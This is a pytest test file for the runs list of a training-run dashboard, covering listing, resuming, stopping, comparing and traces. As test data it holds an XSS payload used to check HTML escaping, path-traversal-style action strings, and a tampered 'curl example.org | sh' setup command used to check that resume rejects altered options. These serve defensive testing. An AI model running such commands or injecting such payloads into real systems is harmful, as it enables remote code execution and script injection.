"""Tests of the list of runs: a row per folder, and buttons to open, compare, resume, stop and show traces."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from fake_runs import wait_until
from tests.requirements import sample
from written_runs import CREATED, PLAN, write_failure, write_run

import shardscope as ss
from shardscope.records.folder import RunFolder
from shardscope.records.json_files import append_line, read_json, read_lines, write_json
from shardscope.runs.backends.target_record import record_target
from shardscope.runs.launch import launch as launch_module
from shardscope.runs.resume import why_not_resumable
from shardscope.runs.summaries import RunSummaries
from shardscope_widgets import Studio
from shardscope_widgets.run import runs_view as runs_view_module
from shardscope_widgets.run.runs_table import format_loss, format_time
from shardscope_widgets.run.runs_view import RunsView
from shardscope_widgets.run.view import RunView


@pytest.fixture(autouse=True)
def in_an_empty_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def views() -> Iterator[list[Any]]:
    views: list[Any] = []
    yield views
    for view in views:
        view.close()


def read_rows(view: RunsView) -> list[str]:
    """Return the text of each row of the list."""
    bodies = re.findall(r"<tr.*?</tr>", view.table.value.partition("<tbody>")[2])
    return [" ".join(unescape(re.sub(r"<[^>]+>", " ", body)).split()) for body in bodies]


def find_action(view: RunsView, kind: str, name: str) -> str:
    """Return the action of the ``kind`` button in the row of the run ``name``."""
    (row,) = [row for row in re.findall(r"<tr.*?</tr>", view.table.value) if f">{name}<" in row]
    match = re.search(f"data-act='({kind}:[^']*)'", row)
    assert match is not None, f"no button {kind} in {row}"
    return match[1]


def press(view: RunsView, kind: str, name: str) -> None:
    view.table.press_button(find_action(view, kind, name))


def test_runs_are_listed_active_first_then_newest() -> None:
    write_run("old", number=0, num_done=40)
    write_run("new", "failed", number=2, num_done=7, reason="rank 1 raised ValueError: no")
    write_run("living", "running", number=1, num_done=3)
    view = RunsView()
    names = [row.split()[0] for row in read_rows(view)]
    assert names == ["living", "new", "old"] and view.num_runs == 3
    active, new, old = read_rows(view)
    assert "2 CPU ranks" in old and "DDP" in old and "finished" in old and "40 of 40" in old
    assert (
        "failed" in new and "7 of 40" in new and format_loss(ss.runs()[-1].metrics()[-1]["loss"])[:3] in new
    )
    assert "running" in active and "Stop" in active and "Stop" not in old
    view.close()


def test_empty_list_names_the_runs_folder() -> None:
    view = RunsView()
    assert view.num_runs == 0 and read_rows(view) == [] and "runs/" in view.table.value
    write_run("first")
    view.toolbar.press_button("look")
    assert view.num_runs == 1 and len(read_rows(view)) == 1


@pytest.mark.parametrize(
    "damage",
    ["{nonsense", "[1]", '{"world_size": -1}', '{"world_size": 1e400}', "", "\0\xff", '{"created": 1}'],
)
def test_damaged_folder_is_one_row_and_hides_no_other_run(damage: str) -> None:
    write_run("whole")
    broken = Path("runs/broken<b>")
    broken.mkdir()
    (broken / "run.json").write_text(damage)
    (Path("runs") / "notes").mkdir()
    view = RunsView()
    assert view.num_runs == 2, "a folder without a run's files is not listed"
    assert any("whole" in row and "finished" in row for row in read_rows(view))
    (row,) = [row for row in read_rows(view) if "broken" in row]
    assert "damaged" in row and "run.json" in row and "<b>" not in view.table.value.replace("<b class", "")


@sample(1)
@pytest.mark.parametrize("plan", ["null", '{"x": 1}', "[]", '"text"'])
def test_run_with_an_unreadable_plan_is_listed_and_opened(plan: str) -> None:
    path = write_run("odd")
    text = (path / "run.json").read_text()
    (path / "run.json").write_text(re.sub(r'"plan": \{.*?\}, "task"', f'"plan": {plan}, "task"', text))
    view = RunsView()
    (row,) = read_rows(view)
    assert "odd" in row and "finished" in row and "plan cannot be read" in row
    press(view, "open", "odd")
    assert wait_until(lambda: view.run_view.status == "finished")
    view.close()


EVIL = "<img src=x onerror=alert(1)>' onmouseover='alert(1)"


def test_text_of_a_run_folder_is_escaped(views: list[Any]) -> None:
    write_run("evil", EVIL, reason=EVIL, num_done=0)
    path = write_run("odd", reason=EVIL, num_done=0, number=1)
    append_line(RunFolder(path).events(0), {"step": EVIL, "loss": EVIL, "rank": 0, "time": 0.0})
    ugly = write_run("<i>'ugly\"", "failed", reason=EVIL)
    write_failure(ugly, 0, EVIL)
    view = RunsView()
    views.append(view)
    assert any("evil" in row and "damaged" in row for row in read_rows(view))
    assert_no_markup(view.table.value)
    press(view, "open", "odd")
    assert "data-status='finished'" in view.run_view.head.value
    view.open(ss.Run.attach(ugly))
    assert wait_until(lambda: "&lt;img" in view.run_view.error.value)
    for part in (view.bar, view.run_view.head, view.run_view.error):
        assert_no_markup(part.value)


def assert_no_markup(html: str) -> None:
    outside = re.sub(r"='[^']*'", "", html)
    assert "<img" not in html and "<i>" not in html and "onmouseover" not in re.sub(r">[^<]*<", "><", outside)


def test_unknown_actions_are_rejected() -> None:
    write_run("one")
    view = RunsView()
    for action in ("open:one", "open:../runs", "resume:", "stop:zzz", "nothing", "trace:<b>"):
        view.table.press_button(action)
        assert "is not an action of this view" in view.table.error and view.is_list_shown


def test_row_opens_the_run_and_back_returns_to_the_list(views: list[Any]) -> None:
    ended: list[Any] = []
    write_run("yesterday", num_done=40)
    view = RunsView(on_end=ended.append)
    views.append(view)
    press(view, "open", "yesterday")
    assert wait_until(lambda: view.run_view.status == "finished" and "40 of 40" in view.run_view.facts.value)
    assert not view.is_list_shown
    view.bar.press_button("back")
    assert view.is_list_shown and ended == [], "on_end is not called for a run that had already ended"


def test_on_end_is_called_for_a_run_opened_while_active(views: list[Any]) -> None:
    ended: list[Any] = []
    path = write_run("living", "running", num_done=3)
    view = RunsView(on_end=ended.append)
    views.append(view)
    run = ss.Run.attach(path)
    view.open(run)
    assert wait_until(lambda: view.run_view.status == "running")
    append_line(RunFolder(path).status, {"time": CREATED + 70, "status": "finished", "reason": "done"})
    assert wait_until(lambda: ended == [run])
    assert "finished" in read_rows(view)[0], "the list is updated too"


def test_on_end_is_called_while_another_run_is_shown(
    views: list[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(runs_view_module, "READ_SECONDS", 0.05)
    ended: list[Any] = []
    path = write_run("living", "running", num_done=3)
    write_run("yesterday")
    view = RunsView(on_end=ended.append)
    views.append(view)
    run = ss.Run.attach(path)
    view.open(run)
    view.bar.press_button("back")
    press(view, "open", "yesterday")
    append_line(RunFolder(path).status, {"time": CREATED + 70, "status": "finished", "reason": "done"})
    assert wait_until(lambda: ended == [run])
    view.read_folder()
    assert ended == [run], "once"


def test_list_updates_active_runs_automatically(views: list[Any], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(runs_view_module, "READ_SECONDS", 0.05)
    path = write_run("living", "running", num_done=3)
    threads = set(threading.enumerate())
    view = RunsView()
    views.append(view)
    assert "3 of 40" in read_rows(view)[0]
    append_line(RunFolder(path).events(0), {"step": 11, "rank": 0, "time": 0.0, "loss": 1.25})
    assert wait_until(lambda: "1.250" in read_rows(view)[0] and "12 of 40" in read_rows(view)[0])
    append_line(RunFolder(path).status, {"time": CREATED + 70, "status": "stopped", "reason": "enough"})
    assert wait_until(lambda: "stopped" in read_rows(view)[0])
    assert wait_until(lambda: threads.issuperset(threading.enumerate())), (
        "without active runs there is no thread"
    )


@pytest.mark.parametrize(("method", "text"), [("full", "DDP"), ("lora", "DDP, LoRA")])
def test_the_method_has_its_usual_spelling(method: Any, text: str) -> None:
    write_run("one", plan=replace(PLAN, recipe=replace(PLAN.recipe, method=method)))
    view = RunsView()
    assert f"on 2 CPU ranks, {text} " in read_rows(view)[0]
    view.close()


def test_two_runs_are_compared_and_a_third_replaces_the_first() -> None:
    for number, name in enumerate(("a", "b", "c")):
        write_run(name, number=number, task=ss.Pretrain(num_steps=40, learning_rate=10.0**-number))
    view = RunsView()
    view.toolbar.press_button("compare")
    assert view.is_list_shown, "nothing is selected"
    for name in ("a", "b", "c"):
        press(view, "select", name)
    assert view.table.value.count("aria-checked='true'") == 2
    view.toolbar.press_button("compare")
    text = unescape(re.sub(r"<[^>]+>", " ", view.comparison.table.value))
    assert not view.is_list_shown and "learning rate 0.1 → 0.01" in text, text
    view.bar.press_button("back")
    assert view.is_list_shown


def test_list_shows_twenty_rows_and_more_on_request() -> None:
    for number in range(45):
        write_run(f"run-{number:02}", number=number, num_done=0)
    view = RunsView()
    assert len(read_rows(view)) == 20 and read_rows(view)[0].startswith("run-44") and view.num_runs == 45
    assert "20 of 45" in view.more.value
    view.more.press_button("more")
    assert len(read_rows(view)) == 40
    view.more.press_button("more")
    assert len(read_rows(view)) == 45 and view.more.value == ""


def test_unchanged_runs_are_not_read_again(monkeypatch: pytest.MonkeyPatch) -> None:
    write_run("one")
    write_run("two", number=1)
    summaries = RunSummaries()
    first = summaries.read()
    assert [summary.loss for summary in first]
    again = summaries.read()
    assert all(one is other for one, other in zip(first, again, strict=True))
    path = Path("runs/two")
    append_line(RunFolder(path).events(0), {"step": 99, "rank": 0, "time": 0.0, "loss": 0.5})
    newer = {summary.name: summary for summary in summaries.read()}
    assert newer["two"].loss == 0.5 and newer["one"] is first[1]


def test_last_loss_is_read_from_the_end_of_a_long_file() -> None:
    path = write_run("long", num_done=0)
    with RunFolder(path).events(0).open("w") as file:
        for step in range(50_000):
            file.write(f'{{"step": {step}, "rank": 0, "time": 0.0, "loss": {step / 10}}}\n')
        file.write('{"step": 50000, "ra')  # Still being written.
    (summary,) = RunSummaries().read()
    began = time.thread_time()
    assert summary.loss == 4999.9 and summary.num_steps_done == 50_000
    assert time.thread_time() - began < 0.2


# ---------------------------------------------------------------------------- resume, stop, trace


def test_resume_needs_a_checkpoint_and_explains_why_it_is_disabled() -> None:
    write_run("saved", "stopped", checkpoint=20)
    write_run("unsaved", "stopped", number=1)
    write_run("mine", "failed", number=2, is_own_task=True, checkpoint=5)
    write_run("done", number=3, checkpoint=40)
    stranger = write_run("stranger", "stopped", number=4, checkpoint=20)
    (stranger / "checkpoints" / "step-000020" / "manifest.json").unlink()
    view = RunsView()
    table = view.table.value

    def find_button(name: str) -> str:
        match = re.search(f"<button[^>]*aria-label='Resume {name}[^>]*>", table)
        return match[0] if match else ""

    assert "aria-disabled" not in find_button("saved") != ""
    assert "aria-disabled" in find_button("unsaved") and "no complete checkpoint" in find_button("unsaved")
    assert "aria-disabled" in find_button("mine") and "your own code" in find_button("mine")
    assert "aria-disabled" in find_button("stranger") and "step-000020: it has no manifest" in find_button(
        "stranger"
    )
    assert find_button("done") == ""
    press(view, "resume", "mine")
    assert (
        view.is_list_shown and "your own code" in view.toolbar.value and "role='alert'" in view.toolbar.value
    )


def test_resume_launches_and_shows_the_new_run(views: list[Any], monkeypatch: pytest.MonkeyPatch) -> None:
    write_run("saved", "stopped", checkpoint=20)
    resumed: list[Any] = []

    def launch(plan: Any, task: ss.Pretrain, **options: Any) -> ss.Run:
        assert task.num_steps == 40 and str(task.resume).endswith("step-000020")
        return ss.Run.attach(write_run("saved-2", "running", number=5, task=task, num_done=22))

    monkeypatch.setattr(launch_module, "launch", launch)
    view = RunsView(on_resume=resumed.append)
    views.append(view)
    press(view, "resume", "saved")
    assert [run.name for run in resumed] == ["saved-2"]
    assert not view.is_list_shown and view.run_view.run is resumed[0]
    view.show_list()
    assert "continues saved" in read_rows(view)[0] and "22 of 40" in read_rows(view)[0]


def test_resume_submits_a_clusters_run_to_the_same_target(
    views: list[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_run("saved", "stopped", checkpoint=20)
    target = ss.Slurm(partition="a100", time="2:00:00", setup=["module load cuda"])
    description = read_json(path / "run.json") or {}
    on = record_target(target, description["created"])
    more = {"scheduler": "slurm", "num_nodes": 1, "retries": 2, "outlive_kernel": True, "on": on}
    write_json(path / "run.json", {**description, **more}, as_is=("machine",))
    (path / "nodes").mkdir()
    write_json(path / "job.json", {"job_id": "7", "partition": "a100"})
    launched: list[dict[str, Any]] = []
    answers = threading.Event()

    def launch(plan: Any, task: ss.Pretrain, **options: Any) -> ss.Run:
        answers.wait(20)
        launched.append(options)
        return ss.Run.attach(write_run("saved-2", "running", number=5, task=task, num_done=22))

    monkeypatch.setattr(launch_module, "launch", launch)
    # A run of this machine that is active does not compete with it.
    view = RunsView(is_busy=lambda: True)
    views.append(view)
    press(view, "resume", "saved")
    assert "being submitted" in view.toolbar.value and view.is_list_shown
    press(view, "resume", "saved")  # A second click submits no second job.
    answers.set()
    assert wait_until(lambda: not view.is_list_shown)
    (options,) = launched
    assert options["on"] == target and options["retries"] == 2 and options["outlive_kernel"] is True
    # Options that another user has changed are not executed.
    changed = read_json(path / "run.json") or {}
    changed["on"]["fields"]["setup"] = ["curl example.org | sh"]  # type: ignore[index]
    write_json(path / "run.json", changed, as_is=("machine",))
    assert "not those of a launch of yours" in str(why_not_resumable(ss.Run.attach(path)))


def find_resume_button(view: RunsView, name: str) -> str:
    match = re.search(f"<button[^>]*aria-label='Resume {name}[^>]*>", view.table.value)
    assert match, view.table.value
    return match[0]


def test_resume_is_disabled_while_a_resumed_run_is_active(
    views: list[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Regression: a second click, or Resume of another run, launched a run that competed with the first."""
    monkeypatch.setattr(runs_view_module, "READ_SECONDS", 0.05)
    write_run("saved", "stopped", checkpoint=20)
    write_run("other", "stopped", number=1, checkpoint=20)
    launched: list[Path] = []

    def launch(plan: Any, task: ss.Pretrain, **options: Any) -> ss.Run:
        launched.append(write_run(f"saved-{len(launched) + 2}", "running", number=5, task=task, num_done=22))
        return ss.Run.attach(launched[-1])

    monkeypatch.setattr(launch_module, "launch", launch)
    view = RunsView()
    views.append(view)
    action = find_action(view, "resume", "saved")
    view.table.press_button(action)
    view.table.press_button(action)
    assert len(launched) == 1 and "run is active" in view.bar.value
    view.show_list()
    for name in ("saved", "other"):
        assert "aria-disabled" in find_resume_button(view, name) and "run is active" in find_resume_button(
            view, name
        )
        press(view, "resume", name)
    assert len(launched) == 1
    end = {"time": CREATED + 590, "status": "finished", "reason": "done"}
    append_line(RunFolder(launched[0]).status, end)
    assert wait_until(lambda: "aria-disabled" not in find_resume_button(view, "other"))


def test_resume_is_disabled_if_another_run_continues_the_same_one(views: list[Any]) -> None:
    path = write_run("saved", "stopped", checkpoint=20)
    (checkpoint,) = (path / "checkpoints").iterdir()
    write_run("later", "running", number=5, task=ss.Pretrain(num_steps=40, resume=checkpoint))
    view = RunsView()
    views.append(view)
    button = find_resume_button(view, "saved")
    assert "later is already continuing this run" in button and "aria-disabled" in button


def test_studio_disables_resume_while_a_launch_is_active() -> None:
    write_run("saved", "stopped", checkpoint=20)
    studio = Studio()
    studio.tabs.value = "Runs"
    assert "aria-disabled" not in find_resume_button(studio.runs, "saved")
    studio.launch.busy = True
    studio.runs.read_folder()
    assert "run is active" in find_resume_button(studio.runs, "saved")
    studio.launch.busy = False
    studio.runs.read_folder()
    assert "aria-disabled" not in find_resume_button(studio.runs, "saved")
    studio.close()


def test_failed_resume_shows_an_error_in_the_list(monkeypatch: pytest.MonkeyPatch) -> None:
    write_run("saved", "stopped", checkpoint=20)
    monkeypatch.setattr(launch_module, "launch", lambda *_, **__: 1 / 0)
    view = RunsView()
    press(view, "resume", "saved")
    assert view.is_list_shown and "division by zero" in view.toolbar.value


def test_active_run_is_stopped_from_the_list(views: list[Any]) -> None:
    path = write_run("living", "running")
    view = RunsView()
    views.append(view)
    press(view, "stop", "living")
    (command,) = read_lines(RunFolder(path).control)
    assert command["command"] == "stop" and command["button"] == "Stop"


def test_trace_opens_in_the_list_or_through_the_callback(views: list[Any]) -> None:
    write_run("traced", has_trace=True)
    write_run("untraced", number=1)
    opened: list[Any] = []
    view = RunsView(on_open_trace=opened.append)
    assert view.table.value.count("Open trace") == 2 - 1 and "trace:" in find_action(view, "trace", "traced")
    press(view, "trace", "traced")
    assert [run.name for run in opened] == ["traced"] and view.is_list_shown
    standalone = RunsView()
    views.append(standalone)
    press(standalone, "trace", "traced")
    assert not standalone.is_list_shown and "Trace of" in standalone.bar.value
    standalone.bar.press_button("back")
    assert standalone.is_list_shown


# ---------------------------------------------------------------------------- a failed run, the Studio


def test_failed_run_shows_the_log_of_the_failed_rank(views: list[Any]) -> None:
    path = write_run("failed", "failed", reason="rank 1 raised ValueError: bad batch")
    write_failure(path, 1, "Traceback (most recent call last):\nValueError: bad batch\n")
    view = RunView(ss.Run.attach(path))
    views.append(view)
    assert wait_until(lambda: view.logs.whose.value == 1 and "bad batch" in view.logs.pane.value)
    assert "ValueError: bad batch" in view.error.value


def test_log_chosen_by_the_user_is_kept_when_the_run_fails(views: list[Any]) -> None:
    path = write_run("failing", "running")
    view = RunView(ss.Run.attach(path))
    views.append(view)
    assert wait_until(lambda: view.status == "running")
    view.logs.whose.value = "supervisor"
    write_failure(path, 1, "ValueError: bad batch\n")
    append_line(RunFolder(path).status, {"time": CREATED, "status": "failed", "reason": "rank 1"})
    assert wait_until(lambda: view.status == "failed" and "bad batch" in view.error.value)
    assert view.logs.whose.value == "supervisor"


def test_next_run_starts_with_the_log_of_rank_0(views: list[Any]) -> None:
    path = write_run("failed", "failed")
    write_failure(path, 1, "ValueError: bad batch\n")
    view = RunView(ss.Run.attach(path))
    views.append(view)
    assert wait_until(lambda: view.logs.whose.value == 1)
    view.show(ss.Run.attach(write_run("whole", number=1)))
    assert view.logs.whose.value == 0
    assert wait_until(lambda: "rank 0 is up" in view.logs.pane.value)


def test_studio_runs_tab_lists_the_runs_of_its_folder(views: list[Any]) -> None:
    write_run("yesterday")
    studio = Studio()
    views.append(studio)
    studio.tabs.value = "Runs"
    assert "yesterday" in studio.runs.table.value


def test_start_times_are_formatted_relative_to_today() -> None:
    now = time.mktime((2026, 11, 23, 12, 0, 0, 0, 0, -1))
    assert format_time(now - 3600, now) == "today 11:00"
    assert format_time(now - 86_400, now) == "yesterday 12:00"
    assert format_time(now - 10 * 86_400, now).startswith("13 Nov")
    assert format_time(now - 400 * 86_400, now).endswith("2025")
    assert format_time(0) == format_time(float("nan")) == format_time(1e300) == ""
